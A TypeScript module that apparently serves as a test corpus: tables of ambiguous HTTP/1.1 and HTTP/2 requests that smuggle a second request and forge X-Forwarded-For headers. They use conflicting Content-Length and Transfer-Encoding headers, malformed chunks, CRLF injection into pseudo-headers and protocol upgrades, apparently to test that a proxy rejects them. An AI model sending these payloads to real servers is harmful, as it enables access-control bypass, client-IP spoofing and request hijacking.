import type { RawHeader } from './raw-http2.ts';

/** The address that a smuggled request claims. A proxy replaces it in every request that it knows of. */
export const FORGED_ADDRESS = '203.0.113.7';

const HOST = 'Host: shop.example\r\n';
const FORM = 'Content-Type: application/x-www-form-urlencoded\r\n';
const FORGED = `X-Forwarded-For: ${FORGED_ADDRESS}\r\nX-Forwarded-Proto: https\r\n`;
const SMUGGLED = `GET /v1/account HTTP/1.1\r\n${HOST}${FORGED}\r\n`;
const POST = `POST /v1/campaigns HTTP/1.1\r\n${HOST}${FORGED}${FORM}`;
const GET = 'GET /v1/account';
const NO_MORE = '0\r\n\r\n';
const length = (text: string): string => `Content-Length: ${text.length}\r\n`;
/** A chunk with the smuggled request, which ends where a server that reads chunks ends the body. */
const CHUNK = `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n${NO_MORE}`;

/** Requests whose ends, headers or targets two servers might read differently. */
export const ambiguousRequests: Record<string, string> = {
  'Content-Length, then Transfer-Encoding': `${POST}${length(NO_MORE + SMUGGLED)}Transfer-Encoding: chunked\r\n\r\n${NO_MORE}${SMUGGLED}`,
  'Transfer-Encoding, then Content-Length': `${POST}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${CHUNK}`,
  ...Object.fromEntries(
    [
      'Transfer-Encoding : chunked',
      'Transfer-Encoding:\tchunked',
      'Transfer-Encoding: xchunked',
      'Transfer-Encoding: chunked, identity',
      'Transfer-Encoding: identity, chunked',
      'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
      'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
      'Transfer-Encoding: "chunked"',
      'Transfer-Encoding:\x0bchunked',
      'Transfer-Encoding: chunked\x00',
      'Transfer-Encoding:\r\n chunked',
      'Transfer-Encoding: x\r\n chunked',
      'X: y\r\n Transfer-Encoding: chunked',
      'X: y\nTransfer-Encoding: chunked',
      'X: y\rTransfer-Encoding: chunked',
      ' Transfer-Encoding: chunked',
      'Transfer_Encoding: chunked',
      'Transfer-Encoding\x00: chunked',
      'Transfer-Encoding: CHUNKED',
    ].flatMap((header) => [
      [
        `${JSON.stringify(header)} and a length of all`,
        `${POST}${length(NO_MORE + SMUGGLED)}${header}\r\n\r\n${NO_MORE}${SMUGGLED}`,
      ],
      [
        `${JSON.stringify(header)} and a length of less`,
        `${POST}Content-Length: 4\r\n${header}\r\n\r\n${CHUNK}`,
      ],
      [`${JSON.stringify(header)} alone`, `${POST}${header}\r\n\r\n${NO_MORE}${SMUGGLED}`],
    ]),
  ),
  ...Object.fromEntries(
    [
      'Content-Length: 0\r\nContent-Length: {all}',
      'Content-Length: {all}\r\nContent-Length: 0',
      'Content-Length: 0, {all}',
      'Content-Length: +{all}',
      'Content-Length: -1',
      'Content-Length: 0x{all}',
      'Content-Length: {all}.0',
      'Content-Length: {all} 0',
      'Content-Length : {all}',
      'Content-Length:\r\n {all}',
      'Content-Length: 99999999999999999999',
      'Content-Length: 18446744073709551616',
      'Content-Length: ',
      'Content_Length: {all}',
      'Content-Length: 00{all}',
      'X: y\r\n Content-Length: {all}',
      'X: y\nContent-Length: {all}',
      'Connection: Content-Length\r\nContent-Length: {all}',
    ].map((header) => [
      JSON.stringify(header),
      `${POST}${header.replace('{all}', String(SMUGGLED.length))}\r\n\r\n${SMUGGLED}`,
    ]),
  ),
  ...Object.fromEntries(
    [
      `0;a="\r\n\r\n${SMUGGLED}"\r\n\r\n`,
      `0\n\r\n${SMUGGLED}`,
      `0\r\n\n${SMUGGLED}`,
      `0;\n\r\n\r\n${SMUGGLED}`,
      `0\r\nX-Forwarded-For: ${FORGED_ADDRESS}\r\nHost: other\r\n\r\n`,
      `0x0\r\n\r\n${SMUGGLED}`,
      ` 0\r\n\r\n${SMUGGLED}`,
      `00000000000000000000\r\n\r\n${SMUGGLED}`,
      `10000000000000000\r\n\r\n${SMUGGLED}`,
      `1\r\naX\r\n${NO_MORE}${SMUGGLED}`,
      `1\r\na\n${NO_MORE}${SMUGGLED}`,
      `2\r\n\r\n\r\n${NO_MORE}${SMUGGLED}`,
      `2;\rxx\r\n4c\r\n0\r\n\r\n${SMUGGLED}`,
      `0\r\n${SMUGGLED}`,
    ].map((chunks) => [
      `chunks ${JSON.stringify(chunks.slice(0, 24))}`,
      `${POST}Transfer-Encoding: chunked\r\n\r\n${chunks}`,
    ]),
  ),
  'a body on GET': `${GET} HTTP/1.1\r\n${HOST}${FORGED}${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'a body on HEAD': `HEAD /v1/account HTTP/1.1\r\n${HOST}${FORGED}${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'a body on OPTIONS': `OPTIONS /v1/account HTTP/1.1\r\n${HOST}${FORGED}${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'a body on DELETE': `DELETE /v1/account HTTP/1.1\r\n${HOST}${FORGED}${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'a body after an error': `POST /none HTTP/1.1\r\n${HOST}${FORGED}${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'a body that is too large': `${POST}Content-Length: 70000\r\n\r\n${SMUGGLED}`,
  'Expect: 100-continue': `${POST}Expect: 100-continue\r\n${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'another expectation': `${POST}Expect: x\r\n${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'Expect: 100-continue on GET': `${GET} HTTP/1.1\r\n${HOST}${FORGED}Expect: 100-continue\r\n${length(SMUGGLED)}\r\n${SMUGGLED}`,
  'Expect: 100-continue with chunks': `${POST}Expect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNK}`,
  'an upgrade to h2c': `${GET} HTTP/1.1\r\n${HOST}${FORGED}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n${SMUGGLED}`,
  'an upgrade to WebSocket': `${GET} HTTP/1.1\r\n${HOST}${FORGED}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n${SMUGGLED}`,
  'an upgrade with a body': `${POST}Connection: Upgrade\r\nUpgrade: x\r\n${length(SMUGGLED)}\r\n${SMUGGLED}`,
  CONNECT: `CONNECT shop.example:443 HTTP/1.1\r\n${HOST}${FORGED}\r\n${SMUGGLED}`,
  'HTTP/1.0 with chunks': `POST /v1/campaigns HTTP/1.0\r\n${HOST}${FORGED}${FORM}Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${NO_MORE}${SMUGGLED}`,
  'HTTP/1.0 without Host': `GET /v1/account HTTP/1.0\r\n${FORGED}\r\n${SMUGGLED}`,
  'HTTP/0.9': `GET /v1/account\r\n${SMUGGLED}`,
  'HTTP/1.1 in lower case': `${GET} http/1.1\r\n${HOST}${FORGED}\r\n`,
  'HTTP/1.2': `${GET} HTTP/1.2\r\n${HOST}${FORGED}\r\n`,
  'HTTP/2.0': `${GET} HTTP/2.0\r\n${HOST}${FORGED}\r\n`,
  'bare line feeds': SMUGGLED.replaceAll('\r\n', '\n'),
  'bare carriage returns': `${GET} HTTP/1.1\r${HOST}${FORGED}\r\n`,
  'empty lines first': `\r\n\r\n\n${SMUGGLED}`,
  'a space before the name of a header': `${GET} HTTP/1.1\r\n ${HOST}${FORGED}\r\n`,
  'a folded header': `${GET} HTTP/1.1\r\n${HOST}X: a\r\n X-Forwarded-For: ${FORGED_ADDRESS}\r\n${FORGED}\r\n`,
  'a tab in the request line': `GET\t/v1/account\tHTTP/1.1\r\n${HOST}${FORGED}\r\n`,
  'a second request in the target': `GET /v1/account HTTP/1.1\r\n${HOST}\r\n ${SMUGGLED.slice(4)}`,
  'two hosts': `${GET} HTTP/1.1\r\n${HOST}Host: other.example\r\n${FORGED}\r\n`,
  'the absolute form': `GET http://other.example/v1/account HTTP/1.1\r\n${HOST}${FORGED}\r\n`,
  'the absolute form with a user': `GET http://a@b@other.example/v1/account HTTP/1.1\r\n${HOST}${FORGED}\r\n`,
  'another scheme': `GET ftp://other.example/v1/account HTTP/1.1\r\n${HOST}${FORGED}\r\n`,
  'a target without a slash': `GET v1/account HTTP/1.1\r\n${HOST}${FORGED}\r\n`,
  'a target with an encoded line end': `GET /v1/account%0d%0aX-Forwarded-For:%20${FORGED_ADDRESS} HTTP/1.1\r\n${HOST}${FORGED}\r\n`,
  'a target in UTF-8': `GET /v1/acc\xc3\xb6unt HTTP/1.1\r\n${HOST}${FORGED}\r\n`,
  'Connection that names the forwarding headers': `${GET} HTTP/1.1\r\n${HOST}${FORGED}Connection: close, X-Forwarded-For, X-Forwarded-Proto, Host\r\n\r\n`,
  'forwarding headers of other spellings': `${GET} HTTP/1.1\r\n${HOST}X_Forwarded_For: ${FORGED_ADDRESS}\r\nX-FORWARDED-FOR: ${FORGED_ADDRESS}\r\nx-forwarded-for : ${FORGED_ADDRESS}\r\nForwarded: for=${FORGED_ADDRESS};proto=https\r\nX-Real-IP: ${FORGED_ADDRESS}\r\nTrue-Client-IP: ${FORGED_ADDRESS}\r\n\r\n`,
  'several forwarding headers': `${GET} HTTP/1.1\r\n${HOST}${FORGED}${FORGED}${FORGED}\r\n`,
  'the PROXY protocol': `PROXY TCP4 ${FORGED_ADDRESS} 127.0.0.1 1 2\r\n${SMUGGLED}`,
  'two requests at once': SMUGGLED + SMUGGLED,
};

const PSEUDO: RawHeader[] = [
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', 'shop.example'],
  [':path', '/v1/account'],
];
const CRLF_SMUGGLED = ` HTTP/1.1\r\n${HOST}\r\n${SMUGGLED}`;
const pseudo = (replaced: Record<string, string>): RawHeader[] =>
  PSEUDO.map(([name, value]) => [name, replaced[name] ?? value]);
const AS_POST = pseudo({ ':method': 'POST', ':path': '/v1/campaigns' });

/** The same for HTTP/2: headers, and post data. */
export const ambiguousHttp2: Record<string, [headers: RawHeader[], body?: string]> = {
  'a line end in :path': [pseudo({ ':path': `/v1/account${CRLF_SMUGGLED}` })],
  'a line feed in :path': [pseudo({ ':path': `/v1/account HTTP/1.1\nHost: a\n\n${SMUGGLED}` })],
  'a space in :path': [pseudo({ ':path': '/v1/account HTTP/1.1' })],
  'a line end in :method': [pseudo({ ':method': `GET /v1/account${CRLF_SMUGGLED}` })],
  'a space in :method': [pseudo({ ':method': 'GET /v1/account?' })],
  'a line end in :authority': [
    pseudo({ ':authority': `shop.example\r\nX-Forwarded-For: ${FORGED_ADDRESS}` }),
  ],
  'a line end in :scheme': [pseudo({ ':scheme': `https://a/ HTTP/1.1\r\n${FORGED}\r\n` })],
  'a target in :scheme': [pseudo({ ':scheme': 'https://shop.example/console?' })],
  'the scheme http': [pseudo({ ':scheme': 'http' })],
  'a :path without a slash': [pseudo({ ':path': 'v1/account' })],
  'an empty :path': [pseudo({ ':path': '' })],
  'an absolute :path': [pseudo({ ':path': 'https://other.example/v1/account' })],
  'the :path *': [pseudo({ ':path': '*' })],
  'a :path with an authority': [pseudo({ ':path': '@other.example/v1/account' })],
  CONNECT: [
    [
      [':method', 'CONNECT'],
      [':authority', 'shop.example:443'],
    ],
    SMUGGLED,
  ],
  'two :path': [[...PSEUDO, [':path', '/console']]],
  'two :authority': [[...PSEUDO, [':authority', 'other.example']]],
  'another host': [[...PSEUDO, ['host', 'other.example']]],
  'no :authority': [PSEUDO.filter(([name]) => name !== ':authority')],
  'no :scheme': [PSEUDO.filter(([name]) => name !== ':scheme')],
  'a line end in a value': [
    [...PSEUDO, ['x', `y\r\nX-Forwarded-For: ${FORGED_ADDRESS}\r\nX-Forwarded-Proto: https`]],
  ],
  'a request in a value': [[...PSEUDO, ['x', `y\r\n\r\n${SMUGGLED}`]]],
  'a line feed in a value': [[...PSEUDO, ['x', `y\nX-Forwarded-For: ${FORGED_ADDRESS}`]]],
  'a NUL in a value': [[...PSEUDO, ['x', 'y\0z']]],
  'a line end in a name': [[...PSEUDO, [`x: y\r\nx-forwarded-for: ${FORGED_ADDRESS}\r\nz`, 'z']]],
  'a colon in a name': [
    [...PSEUDO, ['x-forwarded-for: ', FORGED_ADDRESS], ['x-forwarded-for:203.0.113.7\r\na', '']],
  ],
  'upper case in a name': [[...PSEUDO, ['X-Forwarded-For', FORGED_ADDRESS]]],
  'forwarding headers': [
    [
      ...PSEUDO,
      ['x-forwarded-for', FORGED_ADDRESS],
      ['x-forwarded-proto', 'https'],
      ['forwarded', `for=${FORGED_ADDRESS}`],
    ],
  ],
  'Transfer-Encoding': [[...AS_POST, ['transfer-encoding', 'chunked']], `${NO_MORE}${SMUGGLED}`],
  'Transfer-Encoding in a value': [
    [...AS_POST, ['x', 'y\r\ntransfer-encoding: chunked']],
    `${NO_MORE}${SMUGGLED}`,
  ],
  'Content-Length of less': [[...AS_POST, ['content-length', '0']], SMUGGLED],
  'Content-Length of one byte': [[...AS_POST, ['content-length', '1']], `a${SMUGGLED}`],
  'Content-Length of more': [[...AS_POST, ['content-length', '1000']], SMUGGLED],
  'two Content-Length': [
    [...AS_POST, ['content-length', '0'], ['content-length', String(SMUGGLED.length)]],
    SMUGGLED,
  ],
  'a Content-Length with a sign': [[...AS_POST, ['content-length', `+${SMUGGLED.length}`]], SMUGGLED],
  'a body on GET': [PSEUDO, SMUGGLED],
  'a body on HEAD': [pseudo({ ':method': 'HEAD' }), SMUGGLED],
  'connection headers': [
    [
      ...PSEUDO,
      ['connection', 'upgrade, x-forwarded-for'],
      ['upgrade', 'h2c'],
      ['te', 'chunked'],
      ['keep-alive', 'x'],
    ],
  ],
  'an extended CONNECT': [[[':method', 'CONNECT'], [':protocol', 'websocket'], ...PSEUDO.slice(1)], SMUGGLED],
  'Expect: 100-continue': [[...AS_POST, ['expect', '100-continue']], SMUGGLED],
};
